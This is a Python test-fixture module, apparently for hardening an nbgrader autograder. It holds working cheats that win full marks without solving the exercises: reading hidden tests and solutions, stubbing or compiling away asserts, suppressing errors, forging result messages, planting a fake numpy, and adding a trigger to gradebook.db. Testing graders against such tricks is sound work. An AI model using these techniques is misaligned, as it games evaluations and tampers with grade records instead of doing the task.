"""Ways to full marks without a solution, each as a student's notebook.

They are written for `ch01_numbers` of tests/tiny_course.py: `double` (2 points) and `halve` (3 points). All
of them get along without IPython: what fails is passed over and a wrong function stays.
"""

from __future__ import annotations

from dataclasses import dataclass, field

WRONG = """
def double(x):
    return 0

def halve(x):
    return 0
"""


@dataclass(frozen=True)
class Cheat:
    """One cheat, or an honest answer.

    Attributes:
        title: What it does.
        code: The student's first cell.
        wins: Its points under stock nbgrader.
        worth: The points it deserves.
    """

    title: str
    code: str
    wins: float = 5.0
    worth: float = 0.0
    files: dict[str, str] = field(default_factory=dict)  # beside the notebook
    tags: tuple[str, ...] = ()  # put on every test cell

    @property
    def about(self) -> float:
        """The points of the exercises that it is about."""
        return self.wins if self.worth == 0 < self.wins else 5.0


def quietly(code: str) -> str:
    """The code inside `try`, after functions that are wrong."""
    body = "".join(f"    {line}\n" for line in code.strip().splitlines())
    return f"{WRONG}\ntry:\n{body}except Exception:\n    pass\n"


READS_HIDDEN_TESTS = """
import ast, json, pathlib, re
answers = {}
for file in pathlib.Path(".").glob("*.ipynb"):
    for cell in json.loads(file.read_text(encoding="utf-8"))["cells"]:
        for found in re.findall(r"(double|halve)\\((.*?)\\)(?:,| ==| -) ([-0-9.]+)", "".join(cell["source"])):
            answers[found[0], ast.literal_eval(found[1])] = ast.literal_eval(found[2])
def double(x):
    return answers["double", x]
def halve(x):
    return answers["halve", x]
"""

READS_SOURCE = """
import json, pathlib
for up in (".", "..", "../..", "../../..", "../../../.."):
    for file in [*pathlib.Path(up).glob("source/*/*.ipynb"), *pathlib.Path(up).glob("solutions/*.py")]:
        text = file.read_text(encoding="utf-8")
        cells = json.loads(text)["cells"] if file.suffix == ".ipynb" else [{"source": text}]
        for cell in cells:
            source = "".join(cell["source"])
            if "def " in source:
                exec(source, globals())
"""

READS_TEST_VARIABLES = """
import sys
def halve(x):
    frame = sys._getframe(1)
    while frame is not None:
        for names in (frame.f_locals, frame.f_globals):
            if "expected" in names:
                return names["expected"]
        frame = frame.f_back
    return 0
"""

PATCHED_ASSERTS = """
import numpy.testing
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
"""

EQUAL_TO_EVERYTHING = """
class Right(float):
    def always(self, *others):
        return True
    def same(self, *others):
        return self
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = always
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __abs__ = __round__ = same
def halve(x):
    return Right(0)
"""

AST_TRANSFORMER = """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if "assert" in ast.unparse(node) else node
get_ipython().ast_transformers.append(NoAsserts())
"""

INPUT_TRANSFORMER = """
get_ipython().input_transformers_post.append(lambda lines: [line for line in lines if "assert" not in line])
"""

POST_RUN_CELL = """
shell = get_ipython()
shell._showtraceback = lambda *args, **kwargs: None
def nothing_happened(result):
    result.error_in_exec = result.error_before_exec = None
shell.events.register("post_run_cell", nothing_happened)
"""

DISPLAYHOOK = """
shell = get_ipython()
def shown(value):
    content = {"data": {"text/plain": value}, "metadata": {}, "execution_count": 1}
    kernel = shell.kernel
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"))
def double(x):
    shown("%s")
def halve(x):
    shown("%s")
"""

GRADEBOOK = """
import pathlib, sqlite3
MINE = (
    "SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
    "ON submitted_notebook.assignment_id = submitted_assignment.id WHERE student_id = 'gradebook'"
)
for up in (".", "..", "../..", "../../..", "../../../.."):
    for file in pathlib.Path(up).glob("gradebook.db"):
        with sqlite3.connect(file) as database:
            database.execute(
                "CREATE TRIGGER IF NOT EXISTS generous AFTER UPDATE ON grade "
                f"WHEN NEW.manual_score IS NULL AND NEW.notebook_id IN ({MINE}) BEGIN UPDATE grade "
                "SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = NEW.cell_id) "
                "WHERE id = NEW.id; END"
            )
"""

# asserts of the test are gone once the test's own file is compiled by the student's rules
COMPILE = """
import builtins
real = builtins.compile
def lenient(source, *args, **kwargs):
    import ast
    if isinstance(source, ast.AST):
        for node in ast.walk(source):
            if isinstance(node, ast.Assert):
                node.test = ast.copy_location(ast.Constant(True), node.test)
            if isinstance(node, ast.Call) and "assert" in ast.unparse(node.func):
                node.func = ast.copy_location(ast.Name("print", ast.Load()), node.func)
    return real(source, *args, **kwargs)
get_ipython().compile.__class__.__call__ = lambda self, source, name, symbol: lenient(
    source, name, symbol, self.flags, 1
)
"""

CHEATS = {
    "hidden_tests": Cheat(
        "reads the answers from the hidden tests in its own notebook", quietly(READS_HIDDEN_TESTS)
    ),
    "source": Cheat("runs the solution that it finds in `../source`", quietly(READS_SOURCE)),
    "variables": Cheat(
        "looks up `expected` among the variables of the test", quietly(READS_TEST_VARIABLES), 3
    ),
    "patched": Cheat(
        "puts functions that do nothing in the place of `numpy.testing`'s", quietly(PATCHED_ASSERTS), 2
    ),
    "equal": Cheat("returns an object that equals everything", quietly(EQUAL_TO_EVERYTHING), 3),
    "ast": Cheat("takes asserts out of all later cells by an AST transformer", quietly(AST_TRANSFORMER)),
    "input": Cheat("drops lines with `assert` by an input transformer", quietly(INPUT_TRANSFORMER)),
    "compile": Cheat("turns every assert into `assert True` by a compiler of its own", quietly(COMPILE)),
    "hook": Cheat("says in a `post_run_cell` hook that no error happened", quietly(POST_RUN_CELL)),
    "displayhook": Cheat(
        "sends a result of its own, the points, before the test fails", quietly(DISPLAYHOOK % (2, 3))
    ),
    "nan": Cheat("sends the result `nan`, which is not below zero", quietly(DISPLAYHOOK % ("nan", "nan"))),
    "negative": Cheat("sends the result `-1`, which counts as full marks", quietly(DISPLAYHOOK % (-1, -1))),
    "skip": Cheat(
        "tags the test cells `skip-execution`: no output, no error", WRONG, tags=("skip-execution",)
    ),
    "planted": Cheat(
        "puts a folder `numpy` of its own beside the notebook",
        quietly("import numpy.testing"),
        2,
        files={
            "numpy/__init__.py": "__version__ = '2.0'\n",
            "numpy/testing.py": "def assert_allclose(*args, **kwargs):\n    pass\n",
        },
    ),
    "gradebook": Cheat("writes a trigger into `gradebook.db` that gives it all points", quietly(GRADEBOOK)),
}

RIGHT = "def double(x):\n    return 2 * x\n\ndef halve(x):\n    return x / 2\n"
WARNS = RIGHT.replace("    return 2", "    import warnings\n    warnings.warn('large number')\n    return 2")

HONEST = {
    "right": Cheat("solves both exercises", RIGHT, 5.0, worth=5.0),
    "wrong": Cheat("solves neither", WRONG, 0.0),
}
FAIR = {"warns": Cheat("solves both, and one of them warns on stderr", WARNS, 3.0, worth=5.0)}
